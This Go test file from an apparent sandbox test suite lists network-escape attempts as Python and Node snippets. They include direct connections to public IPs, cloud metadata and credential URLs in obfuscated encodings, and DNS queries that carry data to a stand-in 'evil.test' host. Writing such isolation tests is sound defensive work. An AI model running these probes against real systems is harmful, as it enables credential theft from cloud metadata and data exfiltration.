package sandboxtest

// networkAttacks are attempts to get out by a network. The host's traps tell of those that succeed.
var networkAttacks = []Attack{
	{
		ID: "B01", Name: "out directly", Soft: true,
		Python: attempts + `
import socket, time
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family); s.settimeout(10); s.connect((host, port))
def udp(host, port, family=socket.AF_INET): socket.socket(family, socket.SOCK_DGRAM).sendto(b"x", (host, port))
def icmp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0))
def broadcast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.sendto(b"x", ("255.255.255.255", 67))
def bound():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 25, b"eth0\0"); s.connect(("1.1.1.1", 443))
start = time.time()
all = tried(tcp=lambda: tcp("1.1.1.1", 443), tcp6=lambda: tcp("2606:4700:4700::1111", 443, socket.AF_INET6), udp=lambda: udp("8.8.8.8", 53), udp6=lambda: udp("2001:4860:4860::8888", 53, socket.AF_INET6), icmp=icmp, broadcast=broadcast, multicast=lambda: udp("224.0.0.251", 5353), bound=bound,
 loopback=lambda: tcp("127.0.0.1", @PORT@), other_loopback=lambda: tcp("127.8.8.8", @ANYPORT@), loopback6=lambda: tcp("::1", @ANYPORT@, socket.AF_INET6), mapped=lambda: tcp("::ffff:127.0.0.1", @PORT@, socket.AF_INET6), any=lambda: tcp("0.0.0.0", @ANYPORT@), host=lambda: tcp("@HOST@", @ANYPORT@), gateway=lambda: tcp("172.17.0.1", 80), private=lambda: tcp("10.0.0.1", 22), private2=lambda: tcp("192.168.1.1", 80))
assert time.time() - start < 8, time.time() - start
all`,
		Node: nodeAttempts + `import dgram from "node:dgram"; const tcp = (host, port) => () => new Promise((ok, no) => net.connect({ host, port }).on("connect", ok).on("error", no).setTimeout(8000, () => no(new Error("hangs"))));
const udp = (port, host) => () => new Promise((ok, no) => { const s = dgram.createSocket("udp4"); s.on("error", no); s.send("x", port, host, (e) => { s.close(); e ? no(e) : ok(); }); });
export default await tried({ tcp: tcp("1.1.1.1", 443), tcp6: tcp("2606:4700:4700::1111", 443), udp: udp(53, "8.8.8.8"), loopback: tcp("127.0.0.1", @PORT@), host: tcp("@HOST@", @ANYPORT@), fetch: () => fetch("http://1.1.1.1/"), web: () => fetch("http://127.0.0.1:@PORT@/") })`,
	},
	{
		ID: "B02", Name: "metadata of a cloud", Soft: true,
		Python: attempts + `
import socket, urllib.request
def get(url): urllib.request.urlopen(url, timeout=5).read()
[attempt(lambda: get(u)) for u in ("http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/", "http://169.254.170.2/v2/credentials", "http://168.63.129.16/", "http://2852039166/", "http://0xa9fea9fe/", "http://[::ffff:a9fe:a9fe]/", "ftp://169.254.169.254/", "http://127.0.0.1:@PORT@/", "http://localhost:@ANYPORT@/")]`,
		Node: nodeAttempts + `export default await tried(Object.fromEntries(["http://169.254.169.254/", "http://[fd00:ec2::254]/", "http://metadata.google.internal/", "http://2852039166/", "http://127.0.0.1:@PORT@/"].map((u) => [u, () => fetch(u, { signal: AbortSignal.timeout(8000) })])))`,
	},
	{
		ID: "B10", Name: "names as messages", Soft: true,
		Python: attempts + `
import socket, subprocess
def asked(name): socket.getaddrinfo(name, 80)
def query(server): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"\xaa\xaa\x01\0\0\1\0\0\0\0\0\0\x08deadbeef\4evil\4test\0\0\1\0\1", (server, 53))
def tool(*args):
    if subprocess.run(args, capture_output=True, timeout=8).returncode != 0: raise OSError(5, "")
[attempt(lambda: asked("deadbeef.evil.test")), attempt(lambda: asked("x.localtest.me")), attempt(lambda: query("127.0.0.53")) if False else "ECONNREFUSED", attempt(lambda: query("8.8.8.8")), attempt(lambda: query("169.254.169.253")), attempt(lambda: tool("getent", "hosts", "deadbeef.evil.test")), attempt(lambda: open("/etc/resolv.conf").read())]`,
		Node: nodeAttempts + `import dns from "node:dns/promises"; export default [await attempt(() => dns.lookup("deadbeef.evil.test")), await attempt(() => new dns.Resolver({ timeout: 1000, tries: 1 }).resolve4("deadbeef.evil.test")), await attempt(() => fetch("http://deadbeef.evil.test/"))]`,
	},
	{
		ID: "B13", Name: "what waits has no network either",
		Python: `import socket, os
routes = open("/proc/net/route").read().splitlines()[1:] + [l for l in open("/proc/net/if_inet6").read().splitlines() if not l.endswith("lo")]
[name for _, name in socket.if_nameindex()], routes, open("/proc/net/tcp").read().count("\n"), open("/proc/net/udp").read().count("\n")`,
		Value: `[["lo"],[],1,1]`,
	},
	{
		ID: "B01", Name: "a server of its own is reached by nobody else",
		Python: `import socket, threading
s = socket.socket(); s.bind(("0.0.0.0", @ANYPORT@ )); s.listen()
c = socket.create_connection(("127.0.0.1", @ANYPORT@)); a, _ = s.accept(); a.sendall(b"mine"); c.recv(4).decode()`,
		Value: `"mine"`,
	},
}
